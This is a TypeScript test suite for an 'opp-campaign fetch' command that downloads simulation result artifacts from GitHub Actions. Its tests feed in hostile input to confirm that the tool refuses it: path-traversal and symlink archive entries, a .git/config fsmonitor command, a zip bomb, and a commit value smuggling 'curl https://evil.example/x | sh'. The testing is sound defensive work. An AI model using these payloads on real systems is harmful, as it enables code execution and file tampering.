// `opp-campaign fetch` against recorded GitHub responses: the artifact redirect is followed at
// once and without the token, the archive lands in OUT with a summary of what arrived, unsafe
// archives are refused with nothing written anywhere, and a resumed campaign comes merged with
// the campaign it resumed.
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fetchCommand } from '../../src/cli/fetch-command.js';
import { parseRerun } from '../../src/core/campaign/rerun.js';
import { serializeRecord, type RunRecord } from '../../src/core/campaign/journal.js';
import {
  planDocument,
  planZip,
  resultsZip,
  runRecord,
  type RunSpec,
} from '../helpers/campaign-artifacts.js';
import { needsOmnetpp, theOmnetpp } from '../helpers/omnetpp.js';
import { spawnSync } from 'node:child_process';
import { FakeClock, runClient } from '../helpers/client-cli.js';
import {
  blob,
  exchange,
  startScript,
  type Exchange,
  type Script,
} from '../helpers/github-script.js';
import { makeZip } from '../helpers/zip-writer.js';
import { spawnCli } from '../helpers/cli.js';

const TOKEN = 'github_pat_11FETCHTOKENab12cd34ef56gh78ij90';
const SHA = '009b8a3a9ccbb128af87f9b1c0f4c62e8a304f6d';
const scripts: Script[] = [];
after(() => Promise.all(scripts.map((s) => s.close())));

const PLAN = planDocument(SHA, [
  [
    ['General', 0, 'k0'],
    ['General', 1, 'k1'],
  ],
  [
    ['General', 2, 'k2'],
    ['General', 3, 'k3'],
  ],
]);
const FIRST: RunSpec[] = [
  { config: 'General', run: 0, key: 'k0', status: 'ok' },
  { config: 'General', run: 1, key: 'k1', status: 'failed' },
  { config: 'General', run: 2, key: 'k2', status: 'ok' },
];
const RESUMED: RunSpec[] = [
  { config: 'General', run: 1, key: 'k1', status: 'ok', pid: 200 },
  { config: 'General', run: 3, key: 'k3', status: 'ok', pid: 200 },
];

/** Every path below `dir`, folders ending with / (the .opp-campaign folder included). */
function tree(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .map((p) => (statSync(join(dir, p)).isDirectory() ? `${p}/` : p))
    .sort();
}

async function fetch(
  script: Exchange[],
  args: string[],
): Promise<{ r: Awaited<ReturnType<typeof runClient>>; api: Script; cwd: string }> {
  const api = await startScript(script, TOKEN, { headSha: SHA });
  scripts.push(api);
  const cwd = mkdtempSync(join(tmpdir(), 'opp-fetch-'));
  const r = await runClient(fetchCommand, [...args, '--repo', 'octo-org/octo-repo'], {
    env: { GITHUB_TOKEN: TOKEN, GITHUB_API_URL: api.url, PATH: process.env['PATH'] },
    cwd,
  });
  assert.ok(!r.stdout.includes(TOKEN) && !r.stderr.includes(TOKEN), 'the token was printed');
  for (const req of api.received)
    if (req.path.startsWith('/blob/'))
      assert.equal(req.headers.authorization, undefined, 'the token went to the blob URL');
  return { r, api, cwd };
}

const RUNS = '/repos/octo-org/octo-repo/actions/runs';
const BLOB = '?sv=2025-01-05&se=2026-01-01T00%3A01%3A00Z&sig=Zm9v';

test('fetch: the results artifact through its redirect, into OUT, with a summary', async () => {
  const { r, api, cwd } = await fetch(
    [
      ...['run-success', 'artifacts-all', 'artifact-1103-redirect', 'artifact-1100-redirect'].map(
        exchange,
      ),
      blob(1103, resultsZip(FIRST)),
      blob(1100, planZip(PLAN)),
    ],
    ['30433642', '-o', 'out'],
  );
  assert.equal(r.code, 0, r.stderr);
  const out = join(cwd, 'out');
  assert.equal(
    r.stdout,
    [
      `fetched the results of run 30433642 into ${out}`,
      '4 planned runs: 2 succeeded, 1 failed, 1 missing (redo them: opp-campaign resume 30433642)',
      '2 result files, 367 B',
      '',
    ].join('\n'),
  );
  assert.deepEqual(api.lines(), [
    `GET ${RUNS}/30433642`,
    `GET ${RUNS}/30433642/artifacts?per_page=100`,
    'GET /repos/octo-org/octo-repo/actions/artifacts/1103/zip',
    `GET /blob/1103${BLOB}`,
    `GET ${RUNS}/30433642/artifacts?per_page=100`,
    'GET /repos/octo-org/octo-repo/actions/artifacts/1100/zip',
    `GET /blob/1100${BLOB}`,
  ]);
  assert.deepEqual(tree(out), [
    '.opp-campaign/',
    '.opp-campaign/fetched.json',
    '.runs/',
    '.runs/General-#0.sca',
    '.runs/General-#2.sca',
    'journal.jsonl',
    'logs/',
    'logs/General-1.log',
    'plan.json',
    'runs.csv',
    'summary.md',
  ]);
  assert.deepEqual(
    JSON.parse(readFileSync(join(out, 'plan.json'), 'utf8')),
    JSON.parse(JSON.stringify(PLAN)),
  );
  assert.deepEqual(readdirSync(cwd), ['out'], 'no staging folder left behind');
  // the journal records the result files as they are here (their times are the extraction's;
  // the artifact of an earlier version records no content hash): a run on OUT keeps the runs
  const ok = readFileSync(join(out, 'journal.jsonl'), 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as RunRecord)
    .filter((rec) => rec.status === 'ok');
  assert.equal(ok.length, 2);
  for (const rec of ok)
    for (const f of rec.files) assert.equal(statSync(join(out, f.path)).mtimeMs, f.mtimeMs, f.path);
});

test('after "Re-run failed jobs": the results of the latest attempt (PREFIX-results-attempt-N), not the first attempt\'s', async () => {
  // the first attempt's merge uploaded campaign-results (1103) with a run missing; the re-run's
  // merge, campaign-results-attempt-2 (1104), has them all
  const listing = exchange('artifacts-all');
  const body = listing.response.body as {
    total_count: number;
    artifacts: { id: number; name: string }[];
  };
  const first = body.artifacts.find((a) => a.name === 'campaign-results');
  assert.ok(first);
  const withRerun: Exchange = {
    ...listing,
    response: {
      ...listing.response,
      body: {
        total_count: body.total_count + 1,
        artifacts: [...body.artifacts, { ...first, id: 1104, name: 'campaign-results-attempt-2' }],
      },
    },
  };
  const redirect = JSON.parse(
    JSON.stringify(exchange('artifact-1103-redirect')).replaceAll('1103', '1104'),
  ) as Exchange;
  const ALL: RunSpec[] = [...FIRST.filter((x) => x.run !== 1), ...RESUMED].sort(
    (a, b) => a.run - b.run,
  );
  const { r, api, cwd } = await fetch(
    [
      exchange('run-success'),
      withRerun,
      redirect,
      exchange('artifact-1100-redirect'),
      blob(1104, resultsZip(ALL)),
      blob(1100, planZip(PLAN)),
    ],
    ['30433642', '-o', 'out'],
  );
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /\n4 planned runs: 4 succeeded, 0 failed, 0 missing\n/);
  assert.ok(api.lines().includes('GET /repos/octo-org/octo-repo/actions/artifacts/1104/zip'));
  assert.ok(!api.lines().includes('GET /repos/octo-org/octo-repo/actions/artifacts/1103/zip'));
  assert.ok(existsSync(join(cwd, 'out', '.runs', 'General-#3.sca')));
});

test("fetch --pr: the newest campaign of the pull request's head", async () => {
  const { r, api } = await fetch(
    [
      ...[
        'pull-7',
        'runs-of-pull-7',
        'run-success',
        'artifacts-all',
        'artifact-1103-redirect',
        'artifact-1100-redirect',
      ].map(exchange),
      blob(1103, resultsZip(FIRST)),
      blob(1100, planZip(PLAN)),
    ],
    ['--pr', '7'],
  );
  assert.equal(r.code, 0, r.stderr);
  assert.deepEqual(api.lines().slice(0, 3), [
    'GET /repos/octo-org/octo-repo/pulls/7',
    'GET /repos/octo-org/octo-repo/actions/workflows/campaign.yml/runs?head_sha=6dcb09b5b57875f334f61aebed695e2e4193db5e&event=pull_request&per_page=1',
    `GET ${RUNS}/30433642`,
  ]);
});

test('fetch --shards: the raw shard artifacts too', async () => {
  const { r, cwd } = await fetch(
    [
      ...[
        'run-success',
        'artifacts-all',
        'artifact-1103-redirect',
        'artifact-1100-redirect',
        'artifact-1101-redirect',
        'artifact-1102-redirect',
      ].map(exchange),
      blob(1103, resultsZip(FIRST)),
      blob(1100, planZip(PLAN)),
      blob(1101, resultsZip(FIRST.slice(0, 2))),
      blob(1102, resultsZip(FIRST.slice(2))),
    ],
    ['https://github.com/octo-org/octo-repo/actions/runs/30433642', '--shards'],
  );
  assert.equal(r.code, 0, r.stderr);
  const shards = join(cwd, 'campaign-30433642', 'shards', '30433642');
  assert.deepEqual(readdirSync(shards), ['campaign-shard-0', 'campaign-shard-1']);
  assert.ok(existsSync(join(shards, 'campaign-shard-1', '.runs', 'General-#2.sca')));
  assert.match(r.stdout, /2 shard artifacts in .*campaign-30433642\/shards\//);
});

test('fetch --shards: an artifact name that is a path (from a lying API) is refused, nothing written', async () => {
  const list = exchange('artifacts-all');
  const body = list.response.body as { artifacts: { name: string }[] };
  const evilName = 'campaign-shard-/../../../../../escaped';
  const artifacts = body.artifacts.map((a) =>
    a.name === 'campaign-shard-1' ? { ...a, name: evilName } : a,
  );
  const { r, cwd } = await fetch(
    [
      exchange('run-success'),
      { ...list, response: { ...list.response, body: { ...body, artifacts } } },
      ...['artifact-1103-redirect', 'artifact-1100-redirect', 'artifact-1101-redirect'].map(
        exchange,
      ),
      ...['artifact-1102-redirect'].map(exchange),
      blob(1103, resultsZip(FIRST)),
      blob(1100, planZip(PLAN)),
      blob(1101, resultsZip(FIRST.slice(0, 2))),
      blob(1102, resultsZip(FIRST.slice(2))),
    ],
    ['30433642', '--shards'],
  );
  assert.equal(r.code, 1);
  assert.match(
    r.stderr,
    /artifact 1102 of run 30433642 is named "campaign-shard-\/\.\.\/.*escaped": not a plain file name/,
  );
  assert.equal(r.stderr.trimEnd().split('\n').length, 1, r.stderr);
  assert.deepEqual(tree(cwd), [], 'nothing written, in the folder or outside OUT');
});

for (const [what, evil, message] of [
  [
    'a ../ path',
    { name: '../evil.txt', data: 'escaped' },
    /'..\/evil.txt': a path that leaves the target folder/,
  ],
  ['an absolute path', { name: '/tmp/evil.txt', data: 'escaped' }, /an absolute path/],
  [
    'a symlink',
    { name: 'runs/link', data: '/etc/passwd', mode: 0o120777 },
    /symbolic links are not extracted/,
  ],
  [
    'a .git folder (its config would run a command at `git status`)',
    { name: '.git/config', data: '[core]\n\tfsmonitor = "touch pwned"\n' },
    /'.git\/config': a .git folder/,
  ],
  [
    'a .GIT folder deeper down',
    { name: 'runs/.GIT/config', data: '[core]\n\tfsmonitor = "touch pwned"\n' },
    /'runs\/.GIT\/config': a .git folder/,
  ],
] as const)
  test(`an artifact with ${what} is refused, and nothing is written anywhere`, async () => {
    const { r, cwd } = await fetch(
      [
        ...['run-success', 'artifacts-all', 'artifact-1103-redirect'].map(exchange),
        blob(1103, resultsZip(FIRST, [evil])),
      ],
      ['30433642', '-o', 'sub/out'],
    );
    assert.equal(r.code, 1);
    assert.match(r.stderr, message);
    assert.deepEqual(tree(cwd), ['sub/'], 'only the parent of OUT was made');
  });

test('a zip bomb is refused before it is inflated', async () => {
  const bomb = makeZip([{ name: 'runs/bomb.vec', data: 'x', declaredSize: 0xfffffff0 }]);
  const { r, cwd } = await fetch(
    [...['run-success', 'artifacts-all', 'artifact-1103-redirect'].map(exchange), blob(1103, bomb)],
    ['30433642'],
  );
  assert.equal(r.code, 1);
  assert.match(r.stderr, /'runs\/bomb.vec': claims 4294967280 bytes from \d+ \(a zip bomb\?\)/);
  assert.deepEqual(tree(cwd), []);
});

test('a resumed campaign comes merged with the campaign it resumed (one of an earlier version)', async () => {
  const { r, api, cwd } = await fetch(
    [
      ...[
        'run-resumed',
        'run-success',
        'artifacts-all',
        'artifacts-resumed',
        'artifact-1103-redirect',
        'artifact-1203-redirect',
        'artifact-1100-redirect',
      ].map(exchange),
      // the resumed campaign ran with an earlier version: its per-run files in runs/
      blob(1103, resultsZip(FIRST, [], 'runs')),
      // with vector files, which the artifact holds once, at the top
      blob(1203, resultsZip(RESUMED.map((x) => ({ ...x, vector: true })))),
      blob(1100, planZip(PLAN)),
    ],
    ['30433700'],
  );
  assert.equal(r.code, 0, r.stderr);
  const out = join(cwd, 'campaign-30433700');
  assert.equal(
    r.stdout.split('\n').slice(0, 2).join('\n'),
    [
      `fetched the results of run 30433700 merged with those of run 30433642 (resumed) into ${out}`,
      '4 planned runs: 4 succeeded, 0 failed, 0 missing',
    ].join('\n'),
  );
  assert.deepEqual(api.lines().slice(0, 4), [
    `GET ${RUNS}/30433700`,
    `GET ${RUNS}/30433642`,
    `GET ${RUNS}/30433642/artifacts?per_page=100`,
    `GET ${RUNS}/30433700/artifacts?per_page=100`,
  ]);
  assert.deepEqual(readdirSync(join(out, '.runs')).sort(), [
    'General-#0.sca',
    'General-#1.sca',
    'General-#1.vec',
    'General-#2.sca',
    'General-#3.sca',
    'General-#3.vec',
  ]);
  assert.ok(!existsSync(join(out, 'runs')));
  const journal = readFileSync(join(out, 'journal.jsonl'), 'utf8');
  assert.doesNotMatch(journal, /"path":"runs\//);
  assert.equal(journal.match(/"path":"\.runs\//g)?.length, 6, journal);
  // the vector files: linked back into .runs/, and in the dataset (the merge linked them again)
  for (const f of ['General-#1.vec', 'General-#3.vec']) {
    assert.equal(statSync(join(out, '.runs', f)).ino, statSync(join(out, f)).ino, f);
    assert.match(readFileSync(join(out, f), 'utf8'), /^version 3\nrun General-/);
  }
  // the results merge ran over all of it: one row per run, each with its journal status
  const rows = readFileSync(join(out, 'runs.csv'), 'utf8').trim().split('\n');
  assert.equal(rows.length, 5, rows.join('\n'));
  assert.ok(
    rows.slice(1).every((row) => row.includes(',ok,')),
    rows.join('\n'),
  );
  assert.ok(existsSync(join(out, 'results.sca')));
  assert.match(readFileSync(join(out, 'summary.md'), 'utf8'), /## Campaign complete/);
  const fetched = JSON.parse(readFileSync(join(out, '.opp-campaign', 'fetched.json'), 'utf8')) as {
    runs: { id: number }[];
  };
  assert.deepEqual(
    fetched.runs.map((x) => x.id),
    [30433642, 30433700],
  );
});

const SHARD_COMMAND =
  'cd /home/runner/work/_temp/sim && OPP_CAMPAIGN_RUN_FILE=/home/runner/work/_temp/run-1.json opp_run -c General -r 1';

/** Fetch of run 30433700, which resumed 30433642 and failed run 1 again; its rerun.json `rerun`. */
function fetchResumed(rerun: object): ReturnType<typeof fetch> {
  const failedAgain: RunSpec[] = [
    { config: 'General', run: 1, key: 'k1', status: 'failed', pid: 200, command: SHARD_COMMAND },
    { config: 'General', run: 3, key: 'k3', status: 'ok', pid: 200 },
  ];
  return fetch(
    [
      ...[
        'run-resumed',
        'run-success',
        'artifacts-all',
        'artifacts-resumed',
        'artifact-1103-redirect',
        'artifact-1203-redirect',
        'artifact-1100-redirect',
      ].map(exchange),
      blob(
        1103,
        resultsZip(
          FIRST.map((x) => (x.status === 'ok' ? x : { ...x, command: SHARD_COMMAND })),
          [{ name: '.opp-campaign/rerun.json', data: JSON.stringify({ projectDir: 'old' }) }],
        ),
      ),
      blob(
        1203,
        resultsZip(failedAgain, [
          { name: '.opp-campaign/rerun.json', data: JSON.stringify(rerun) },
        ]),
      ),
      blob(1100, planZip(PLAN)),
    ],
    ['30433700'],
  );
}

test("a resumed campaign with a run that failed again: summary.md shows the merge job's `opp-campaign run` from a clone, not the shard's command", async () => {
  // as the merge job writes it (src/action/main.ts): the shards had timeout 90s
  const rerun = { projectDir: 'sim', ini: ['omnetpp.ini'], commit: SHA, timeoutMs: 90_000 };
  const { r, cwd } = await fetchResumed(rerun);
  assert.equal(r.code, 0, r.stderr);
  const summary = readFileSync(join(cwd, 'campaign-30433700', 'summary.md'), 'utf8');
  assert.match(summary, /## Campaign incomplete/);
  assert.ok(!summary.includes('OPP_CAMPAIGN_RUN_FILE'), summary);
  assert.ok(!summary.includes('/home/runner'), summary);
  assert.ok(
    summary.includes('\n  opp-campaign run sim -f omnetpp.ini -c General -r 1 --timeout 90s\n'),
    summary,
  );
  assert.ok(summary.includes(`from the top of a clone of the repository at commit \`${SHA}\``));
});

test('a token that is a short test value (GITHUB_TOKEN=e) leaves the messages readable', async () => {
  const closed = await startScript([], TOKEN);
  await closed.close();
  const cwd = mkdtempSync(join(tmpdir(), 'opp-fetch-'));
  try {
    const r = await runClient(fetchCommand, ['123', '--repo', 'octo-org/octo-repo', '-o', 'out'], {
      env: { GITHUB_TOKEN: 'e', GITHUB_API_URL: closed.url, PATH: process.env['PATH'] },
      cwd,
      clock: new FakeClock(),
    });
    assert.equal(r.code, 1, r.stderr);
    // before: `Cannot r***ach GitHub's API ... Ch***ck th*** n***twork`
    assert.match(r.stderr, /Cannot reach GitHub's API at \S+: .*ECONNREFUSED.*Check the network/);
  } finally {
    rmSync(cwd, { recursive: true, force: true });
  }
});

test("an artifact's plan.json whose commit is no commit (a command to paste) is bad input naming the file: nothing is fetched", async () => {
  const commit = 'abc123 && curl https://evil.example/x | sh #';
  const { r, cwd } = await fetch(
    [
      ...['run-success', 'artifacts-all', 'artifact-1103-redirect', 'artifact-1100-redirect'].map(
        exchange,
      ),
      blob(1103, resultsZip(FIRST)),
      blob(1100, planZip({ ...PLAN, commit })),
    ],
    ['30433642', '-o', 'out'],
  );
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(
    r.stderr,
    /the plan artifact of run 30433642: plan\.json: commit "abc123 && curl https:\/\/evil\.example\/x \| sh #" is not a commit \(7 to 64 hex digits\); nothing was fetched \(\S*out is as it was\)/,
  );
  assert.deepEqual(readdirSync(cwd), [], 'nothing written');
});

test("an artifact's rerun.json whose commit is no commit (a command to paste) is bad input naming the file: nothing is fetched", async () => {
  const commit = 'abc123 && curl https://evil.example/x | sh #';
  const rerun = { projectDir: 'sim', ini: ['omnetpp.ini'], commit };
  const { r, cwd } = await fetchResumed(rerun);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(
    r.stderr,
    /the results artifact of run 30433700: \.opp-campaign\/rerun\.json: commit "abc123 && curl https:\/\/evil\.example\/x \| sh #" is not a commit \(7 to 64 hex digits\); nothing was fetched \(\S*campaign-30433700 is as it was\)/,
  );
  assert.ok(!existsSync(join(cwd, 'campaign-30433700')));
  // a commit of 7 to 64 hex digits is one (a short one, a SHA-256 one)
  for (const ok of ['abc1234', 'a'.repeat(64)])
    assert.equal(parseRerun(JSON.stringify({ ...rerun, commit: ok }), 'f')?.commit, ok);
  for (const bad of ['abc123', 'a'.repeat(65), 'main', '-abc1234'])
    assert.throws(
      () => parseRerun(JSON.stringify({ ...rerun, commit: bad }), 'f'),
      /f: commit ".*" is not a commit/,
    );
});

test('an API address that never answers (a wrong GITHUB_API_URL, no network) fails at once, without minutes of retries', async () => {
  const closed = await startScript([], TOKEN);
  await closed.close();
  const clock = new FakeClock();
  const cwd = mkdtempSync(join(tmpdir(), 'opp-fetch-'));
  const r = await runClient(fetchCommand, ['123', '--repo', 'octo-org/octo-repo', '-o', 'out'], {
    env: { GITHUB_TOKEN: TOKEN, GITHUB_API_URL: closed.url, PATH: process.env['PATH'] },
    cwd,
    clock,
  });
  assert.equal(r.code, 1, r.stderr);
  assert.match(r.stderr, /Cannot reach GitHub's API at \S+: .*ECONNREFUSED/);
  assert.doesNotMatch(r.stderr, /Waiting/);
  assert.deepEqual(clock.sleeps, []);
});

test('a folder that is not empty is left alone unless --force', async () => {
  const script = [
    ...['run-success', 'artifacts-all', 'artifact-1103-redirect', 'artifact-1100-redirect'].map(
      exchange,
    ),
    blob(1103, resultsZip(FIRST)),
    blob(1100, planZip(PLAN)),
  ];
  const taken = join(mkdtempSync(join(tmpdir(), 'opp-fetch-taken-')), 'out');
  const { r } = await fetch(script, ['30433642', '-o', taken]);
  assert.equal(r.code, 0, r.stderr);
  writeFileSync(join(taken, 'mine.txt'), 'keep');
  const again = await fetch(script, ['30433642', '-o', taken]);
  assert.equal(again.r.code, 1);
  assert.match(
    again.r.stderr,
    /is not empty: choose another folder \(-o DIR\), or replace it with --force/,
  );
  assert.ok(existsSync(join(taken, 'mine.txt')));
  const forced = await fetch(script, ['30433642', '-o', taken, '--force']);
  assert.equal(forced.r.code, 0, forced.r.stderr);
  assert.ok(!existsSync(join(taken, 'mine.txt')));
  assert.ok(existsSync(join(taken, '.runs', 'General-#0.sca')));
});

test('fetch refuses the current folder, a git work tree, HOME, / and folders it did not make', async () => {
  const api = await startScript([], TOKEN, { headSha: SHA });
  scripts.push(api);
  // a project: a git work tree with sources, fetch run from inside it
  const project = mkdtempSync(join(tmpdir(), 'opp-fetch-project-'));
  const home = mkdtempSync(join(tmpdir(), 'opp-fetch-home-'));
  mkdirSync(join(project, '.git'));
  mkdirSync(join(project, 'src'));
  writeFileSync(join(project, 'src', 'model.cc'), 'keep');
  mkdirSync(join(project, 'notes'));
  writeFileSync(join(project, 'notes', 'todo.txt'), 'keep');
  mkdirSync(join(home, 'work'));
  const attempt = (args: string[], cwd = project) =>
    runClient(fetchCommand, ['30433642', ...args, '--repo', 'octo-org/octo-repo'], {
      env: { GITHUB_TOKEN: TOKEN, GITHUB_API_URL: api.url, HOME: home, PATH: process.env['PATH'] },
      cwd,
    });
  const cases: [string[], RegExp, string?][] = [
    [['-o', '.', '--force'], /refusing to write the current folder/],
    [['-o', '.'], /refusing to write the current folder/],
    [['-o', project, '--force'], /refusing to write the current folder/],
    [['-o', '..', '--force'], /refusing to write a folder that holds the current folder/],
    [['-o', '/', '--force'], /refusing to write the root folder/],
    [['-o', home, '--force'], /refusing to write the home folder/, join(home, 'work')],
    [['-o', '~', '--force'], /not made by opp-campaign fetch/],
    [['-o', 'notes', '--force'], /notes was not made by opp-campaign fetch/],
    [['-o', project, '--force'], /is a git work tree/, home],
  ];
  for (const [args, message, cwd] of cases) {
    if (args[1] === '~') {
      // a folder named ~ (the shell did not expand it) that is not empty
      mkdirSync(join(project, '~'), { recursive: true });
      writeFileSync(join(project, '~', 'x'), 'keep');
    }
    const r = await attempt(args, cwd);
    assert.equal(r.code, 1, `${args.join(' ')}: ${r.stderr}`);
    assert.match(r.stderr, message, args.join(' '));
    assert.equal(r.stderr.split('\n').length, 2, 'one line');
  }
  assert.deepEqual(api.received, [], 'refused before asking GitHub anything');
  assert.deepEqual(tree(project), [
    '.git/',
    'notes/',
    'notes/todo.txt',
    'src/',
    'src/model.cc',
    '~/',
    '~/x',
  ]);
  assert.deepEqual(tree(home), ['work/']);
});

test(
  'a download that stalls (half the zip, then nothing) fails after the idle timeout: one line, no staging folder',
  { timeout: 30_000 },
  async () => {
    const api = await startScript(
      [
        ...['run-success', 'artifacts-all', 'artifact-1103-redirect'].map(exchange),
        blob(1103, resultsZip(FIRST), true), // half the zip, then nothing
      ],
      TOKEN,
      { headSha: SHA },
    );
    scripts.push(api);
    const cwd = mkdtempSync(join(tmpdir(), 'opp-fetch-'));
    const started = Date.now();
    const r = await runClient(
      fetchCommand,
      ['30433642', '-o', 'out', '--repo', 'octo-org/octo-repo'],
      {
        env: {
          GITHUB_TOKEN: TOKEN,
          GITHUB_API_URL: api.url,
          PATH: process.env['PATH'],
          OPP_CAMPAIGN_DOWNLOAD_IDLE_TIMEOUT: '0.5',
        },
        cwd,
      },
    );
    assert.equal(r.code, 1, r.stderr);
    assert.ok(Date.now() - started < 20_000, 'it waited far longer than the idle timeout');
    assert.equal(
      r.stderr.trim(),
      `opp-campaign: error: the download of artifact 'campaign-results' stalled: no data for 0.5 s; nothing was fetched (${join(cwd, 'out')} is as it was)`,
    );
    assert.deepEqual(readdirSync(cwd), [], 'the staging folder (or OUT) was left');
    rmSync(cwd, { recursive: true, force: true });
  },
);

for (const [signal, status] of [
  ['SIGINT', 130],
  ['SIGTERM', 143],
] as const)
  test(`${signal} during a download stops fetch at once: no staging folder left, exit ${status}`, async () => {
    const api = await startScript(
      [
        ...['run-success', 'artifacts-all', 'artifact-1103-redirect'].map(exchange),
        blob(1103, resultsZip(FIRST), true), // half the zip, then nothing
      ],
      TOKEN,
      { headSha: SHA },
    );
    scripts.push(api);
    const parent = mkdtempSync(join(tmpdir(), 'opp-fetch-'));
    const cli = spawnCli(
      ['fetch', '30433642', '-o', join(parent, 'out'), '--repo', 'octo-org/octo-repo'],
      {
        GITHUB_TOKEN: TOKEN,
        GITHUB_API_URL: api.url,
        PATH: process.env['PATH'],
      },
    );
    try {
      // the download has begun once the staging folder holds the zip
      const zipping = (): boolean =>
        readdirSync(parent).some(
          (d) => d.startsWith('.out.fetch-') && existsSync(join(parent, d, '30433642.zip')),
        );
      for (let i = 0; !zipping(); i++) {
        assert.ok(i < 600 && cli.child.exitCode === null, `no download began: ${cli.output()}`);
        await new Promise((r) => setTimeout(r, 50));
      }
      cli.child.kill(signal);
      const outcome = await Promise.race([
        cli.exited,
        new Promise<'still running'>((r) => setTimeout(() => r('still running'), 15_000).unref()),
      ]);
      assert.notEqual(outcome, 'still running', `the first ${signal} did not stop the download`);
      assert.deepEqual(outcome, { code: status, signal: null }, cli.output());
      assert.match(cli.output(), /interrupted/);
      assert.ok(!cli.output().includes(TOKEN));
      assert.deepEqual(readdirSync(parent), [], 'the staging folder (or OUT) was left');
    } finally {
      if (cli.child.exitCode === null && cli.child.signalCode === null) cli.child.kill('SIGKILL');
      await cli.exited;
      rmSync(parent, { recursive: true, force: true });
    }
  });

test('fetch keeps a vector file one file: the top file and its .runs/ twin are the same (one inode, two links), not two copies', async () => {
  const runs = FIRST.map((x) => (x.status === 'ok' ? { ...x, vector: true } : x));
  const { r, cwd } = await fetch(
    [
      ...['run-success', 'artifacts-all', 'artifact-1103-redirect', 'artifact-1100-redirect'].map(
        exchange,
      ),
      blob(1103, resultsZip(runs)),
      blob(1100, planZip(PLAN)),
    ],
    ['30433642', '-o', 'out'],
  );
  assert.equal(r.code, 0, r.stderr);
  const out = join(cwd, 'out');
  for (const f of ['General-#0.vec', 'General-#2.vec']) {
    const top = statSync(join(out, f));
    const own = statSync(join(out, '.runs', f));
    assert.equal(own.ino, top.ino, f);
    assert.equal(top.nlink, 2, f);
  }
  rmSync(cwd, { recursive: true, force: true });
});

test(
  "fetch of a run's OMNeT++ vector file and its index: the .vec gets back the time its .vci records, and opp_scavetool uses the .vci as it is (no new index)",
  { skip: needsOmnetpp() },
  async () => {
    const run = 'PureAlohaExperiment-numHosts=10,iaMean=2-#0';
    const fixtures = join(import.meta.dirname, '../fixtures/results/text');
    const data = (ext: string): Buffer => readFileSync(join(fixtures, `${run}.${ext}`));
    // as the merge job's artifact carries them: the .vec and .vci once, at the top
    const rec: RunRecord = {
      ...runRecord({ config: 'General', run: 0, key: 'k0', status: 'ok' }),
      files: ['sca', 'vec', 'vci'].map((ext) => ({
        path: `.runs/${run}.${ext}`,
        size: data(ext).length,
        mtimeMs: 1_764_000_000_000,
      })),
    };
    const zip = makeZip([
      { name: '.runs/' },
      { name: `.runs/${run}.sca`, data: data('sca') },
      { name: `${run}.vec`, data: data('vec') },
      { name: `${run}.vci`, data: data('vci') },
      { name: 'journal.jsonl', data: serializeRecord(rec) },
      { name: 'runs.csv', data: 'run,config,runnumber\n' },
      { name: 'summary.md', data: '## Campaign\n' },
    ]);
    const { r, cwd } = await fetch(
      [
        ...['run-success', 'artifacts-all', 'artifact-1103-redirect', 'artifact-1100-redirect'].map(
          exchange,
        ),
        blob(1103, zip),
        blob(1100, planZip(PLAN)),
      ],
      ['30433642', '-o', 'out'],
    );
    assert.equal(r.code, 0, r.stderr);
    const out = join(cwd, 'out');
    for (const at of [out, join(out, '.runs')]) {
      const listed = spawnSync('opp_scavetool', ['q', '-l', `${run}.vec`], {
        cwd: at,
        env: theOmnetpp().env,
        encoding: 'utf8',
      });
      assert.equal(listed.status, 0, listed.stderr);
      assert.match(listed.stdout, /serverChannelState:vector/);
      assert.deepEqual(
        readFileSync(join(at, `${run}.vci`)),
        data('vci'),
        `${at}: not indexed again`,
      );
    }
    rmSync(cwd, { recursive: true, force: true });
  },
);
